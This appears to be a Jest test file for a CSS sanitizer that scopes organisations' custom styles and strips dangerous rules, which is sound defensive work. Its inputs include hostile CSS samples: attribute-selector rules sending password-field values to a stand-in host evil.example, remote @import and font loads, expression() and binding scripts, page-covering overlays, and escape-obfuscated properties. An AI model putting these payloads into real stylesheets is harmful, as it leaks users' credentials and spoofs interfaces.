import { describe, expect, it } from '@jest/globals';
import { CUSTOM_CSS_SCOPE, sanitizeCustomCss } from './custom-css.ts';

const reasons = (source: string) => sanitizeCustomCss(source).removed.map((removal) => removal.reason);

describe('sanitizeCustomCss', () => {
  it('keeps allowed rules, scoped under the organization’s content root, and drops comments', () => {
    const { css, removed } = sanitizeCustomCss(
      '/* brand */\n.hero h1, .card { color: #0f766e; font-weight: 700 !important; }\n' +
        '@media (max-width: 600px) { .card { padding: 8px 12px } }',
    );
    expect(css).toBe(
      `${CUSTOM_CSS_SCOPE} .hero h1,${CUSTOM_CSS_SCOPE} .card{color:#0f766e;font-weight:700!important}\n` +
        `@media (max-width:600px){${CUSTOM_CSS_SCOPE} .card{padding:8px 12px}}`,
    );
    expect(removed).toEqual([]);
    // Stored sanitized and sanitized again when served: the second pass changes nothing.
    expect(sanitizeCustomCss(css)).toEqual({ css, removed: [] });
  });

  it('removes @import, @font-face and every other at-rule but @media and @supports', () => {
    const { css, removed } = sanitizeCustomCss(
      '@import url("https://evil.example/x.css");\n@import "https://evil.example/y.css";\n' +
        '@font-face { font-family: X; src: url(https://evil.example/f.woff) }\n' +
        '@namespace svg url(http://www.w3.org/2000/svg);\n@supports (display: grid) { p { color: red } }',
    );
    expect(css).toBe(`@supports (display:grid){${CUSTOM_CSS_SCOPE} p{color:red}}`);
    expect(removed.map((removal) => [removal.reason, removal.line])).toEqual([
      ['at_rule', 1],
      ['at_rule', 2],
      ['at_rule', 3],
      ['at_rule', 4],
    ]);
  });

  it('defeats attribute-selector exfiltration: no url() leaves the firm’s own assets', () => {
    const hostile =
      'input[name=password][value^="a"] { background: url(https://evil.example/?a) }\n' +
      'input[value$="b"] { background-image: URL( "//evil.example/b" ) }\n' +
      'a[href*=token] { background-image: image-set("https://evil.example/c" 1x) }\n' +
      'p { background: url(/assets/org/logo.png) }';
    expect(sanitizeCustomCss(hostile).css).toBe('');
    expect(reasons(hostile)).toEqual(['value', 'value', 'value', 'value']);
    const own = sanitizeCustomCss('p { background: url(/assets/org/logo.png) no-repeat }', {
      isOwnAsset: (url) => url.startsWith('/assets/org/'),
    });
    expect(own.css).toBe(`${CUSTOM_CSS_SCOPE} p{background:url(/assets/org/logo.png)no-repeat}`);
  });

  it('removes script-like features: expression(), behavior, -moz-binding, attr() and custom properties', () => {
    const source =
      'p { width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#b) }\n' +
      'p::after { content: attr(data-secret) }\n' +
      'p { --x: url(https://evil.example/v); color: var(--mantine-color-blue-6) }\n' +
      'p { color: expression(alert(2)) }';
    const { css, removed } = sanitizeCustomCss(source);
    expect(css).toBe(`${CUSTOM_CSS_SCOPE} p{color:var(--mantine-color-blue-6)}`);
    expect(removed.map((removal) => removal.reason)).toEqual([
      'property',
      'property',
      'property',
      'property',
      'property',
      'value',
    ]);
  });

  it('removes selectors that try to leave the content root, keeping the rest of their rule', () => {
    const source =
      'html body .x, :root .y, body { color: red }\n' +
      '~ .sidebar, + header, > nav { color: red }\n' +
      ':host, :scope .z { color: red }\n' +
      '.ok, & .nested { color: teal }';
    const { css, removed } = sanitizeCustomCss(source);
    expect(css).toBe(`${CUSTOM_CSS_SCOPE} .ok{color:teal}`);
    expect(removed.filter((removal) => removal.reason === 'selector')).toHaveLength(9);
  });

  it('cannot cover the shell: no positioning, stacking, transforms, margins or generated content', () => {
    const source =
      '.banner { position: fixed; inset: 0; top: 0; z-index: 99999; transform: translateY(-200px); ' +
      'margin-top: -400px; display: none; content: "Verified"; color: navy }';
    expect(sanitizeCustomCss(source).css).toBe(`${CUSTOM_CSS_SCOPE} .banner{color:navy}`);
    expect(reasons(source)).toEqual(Array.from({ length: 8 }, () => 'property'));
  });

  it('drops what the parser cannot read, without losing the valid rules around it', () => {
    const { css, removed } = sanitizeCustomCss('.a { color: red }\n.b { color: ; }\n.c { color: blue }');
    expect(css).toBe(`${CUSTOM_CSS_SCOPE} .a{color:red}\n${CUSTOM_CSS_SCOPE} .c{color:blue}`);
    expect(removed).toEqual([{ reason: 'value', css: 'color:', line: 2 }]);
  });

  it('reads escapes as the browser would: an escaped property name is not an allowed one', () => {
    const source = '.a { posit\\69 on: fixed; col\\6fr: red; background: u\\72l(https://evil.example/e) }';
    expect(sanitizeCustomCss(source).css).toBe('');
  });
});
